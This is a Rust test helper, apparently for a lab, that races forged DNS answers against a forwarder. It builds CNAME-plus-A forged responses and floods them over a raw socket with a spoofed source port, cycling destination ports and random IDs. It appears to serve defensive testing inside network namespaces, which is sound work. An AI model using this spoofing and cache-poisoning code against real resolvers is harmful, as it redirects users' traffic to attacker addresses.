//! Forged DNS answers at line rate, for the forgery race: a raw IPv4 socket in a namespace of the
//! test's lab sends an answer the attacker would like the forwarder to take, again and again,
//! each time to another destination port under another ID. Bounded in time and count.

use std::{
    net::{Ipv4Addr, SocketAddr, UdpSocket},
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    str::FromStr as _,
    time::{Duration, Instant},
};

use anyhow::ensure;
use hickory_proto::{
    op::{Message, MessageType, OpCode, Query},
    rr::{rdata::CNAME, Name, RData, Record, RecordType},
};

/// Runs `work` on a thread that has entered network namespace `netns` (a thread's namespace is
/// its own: the rest of the test process stays where it was).
pub fn in_netns<T: Send + 'static>(
    netns: &str,
    work: impl FnOnce() -> anyhow::Result<T> + Send + 'static,
) -> std::thread::JoinHandle<anyhow::Result<T>> {
    let netns = netns.to_owned();
    std::thread::spawn(move || {
        crate::lab::enter_netns(&netns)?;
        work()
    })
}

/// The outcome of an [`in_netns`] thread.
pub fn joined<T>(thread: std::thread::JoinHandle<anyhow::Result<T>>) -> anyhow::Result<T> {
    thread
        .join()
        .map_err(|_| anyhow::anyhow!("a thread in a namespace panicked"))?
}

/// The answer a forger sends for `question` (type A): a CNAME to `listed`, a name a rule
/// matches, and an A record for `listed` at `address`. The question is spelled as the forger
/// guesses it, all lower case.
pub fn forged_answer(question: &str, listed: &str, address: Ipv4Addr) -> anyhow::Result<Vec<u8>> {
    let question = Name::from_str(question)?;
    let listed = Name::from_str(listed)?;
    let mut message = Message::new(0, MessageType::Response, OpCode::Query);
    message.metadata.recursion_desired = true;
    message.metadata.recursion_available = true;
    message.add_query(Query::query(question.clone(), RecordType::A));
    message.add_answer(Record::from_rdata(
        question,
        3600,
        RData::CNAME(CNAME(listed.clone())),
    ));
    message.add_answer(Record::from_rdata(listed, 3600, RData::A(address.into())));
    Ok(message.to_vec()?)
}

/// What a flood did.
#[derive(Clone, Copy, Debug, Default)]
pub struct FloodReport {
    pub sent: u64,
    pub elapsed: Duration,
}

impl FloodReport {
    /// Packets per second.
    #[must_use]
    pub fn rate(&self) -> u64 {
        let millis = self.elapsed.as_millis().max(1);
        (u128::from(self.sent) * 1000 / millis) as u64
    }
}

/// A client that keeps `questions` (type A) in flight at the forwarder `server` for `duration`:
/// every second it asks each of them twice under fresh IDs (the second merges into the first).
/// Returns how many queries it sent and how many answers came back. Call it from [`in_netns`].
pub fn keep_asking(
    bind: SocketAddr,
    server: SocketAddr,
    questions: &[String],
    duration: Duration,
) -> anyhow::Result<(u64, u64)> {
    let socket = UdpSocket::bind(bind)?;
    socket.set_nonblocking(true)?;
    let started = Instant::now();
    let (mut asked, mut answered) = (0, 0);
    let mut buffer = [0u8; 1500];
    while started.elapsed() < duration {
        for name in questions {
            for _ in 0..2 {
                let mut query = Message::query();
                query.metadata.recursion_desired = true;
                query.metadata.id = rand::random();
                query.add_query(Query::query(Name::from_str(name)?, RecordType::A));
                socket.send_to(&query.to_vec()?, server)?;
                asked += 1;
            }
        }
        let second = Instant::now() + Duration::from_secs(1);
        while Instant::now() < second {
            match socket.recv_from(&mut buffer) {
                Ok(_) => answered += 1,
                Err(_) => std::thread::sleep(Duration::from_millis(20)),
            }
        }
    }
    Ok((asked, answered))
}

/// Sends each of `payloads` in turn as UDP from `src`:53 to `dst`, cycling the destination port
/// through 1024..=65535 and drawing the DNS ID (the payload's first two bytes) at random, until
/// `duration` or `max_packets`. Call it from [`in_netns`].
pub fn flood(
    src: Ipv4Addr,
    dst: Ipv4Addr,
    payloads: &[Vec<u8>],
    duration: Duration,
    max_packets: u64,
) -> anyhow::Result<FloodReport> {
    ensure!(!payloads.is_empty(), "nothing to flood with");
    // Safety: a plain socket call; the descriptor is owned at once.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    ensure!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
    // Safety: `fd` is fresh and ours.
    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
    let mut packets: Vec<Vec<u8>> = payloads
        .iter()
        .map(|payload| ipv4_udp(src, dst, 53, 0, payload))
        .collect();
    let target = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: 0,
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(dst.octets()),
        },
        sin_zero: [0; 8],
    };
    let started = Instant::now();
    let mut report = FloodReport::default();
    let mut port: u16 = 1024;
    while report.sent < max_packets && started.elapsed() < duration {
        // Check the clock only every thousand packets: it is not free at this rate.
        for index in 0..1000 {
            let packet = &mut packets[index % payloads.len()];
            port = if port == u16::MAX { 1024 } else { port + 1 };
            packet[22..24].copy_from_slice(&port.to_be_bytes());
            packet[28..30].copy_from_slice(&rand::random::<u16>().to_be_bytes());
            // Safety: `packet` and `target` live across the call; lengths are theirs.
            let sent = unsafe {
                libc::sendto(
                    socket.as_raw_fd(),
                    packet.as_ptr().cast(),
                    packet.len(),
                    0,
                    (&raw const target).cast(),
                    size_of::<libc::sockaddr_in>() as libc::socklen_t,
                )
            };
            if sent > 0 {
                report.sent += 1;
            }
        }
    }
    report.elapsed = started.elapsed();
    Ok(report)
}

/// An IPv4 header (the kernel fills in its checksum and length for a raw socket) and a UDP
/// header without checksum (0: none, allowed over IPv4), around `payload`.
fn ipv4_udp(src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16, payload: &[u8]) -> Vec<u8> {
    let udp_len = (8 + payload.len()) as u16;
    let mut packet = Vec::with_capacity(28 + payload.len());
    packet.extend([0x45, 0]);
    packet.extend((20 + udp_len).to_be_bytes());
    packet.extend([0, 0, 0, 0, 64, 17, 0, 0]);
    packet.extend(src.octets());
    packet.extend(dst.octets());
    packet.extend(sport.to_be_bytes());
    packet.extend(dport.to_be_bytes());
    packet.extend(udp_len.to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(payload);
    packet
}
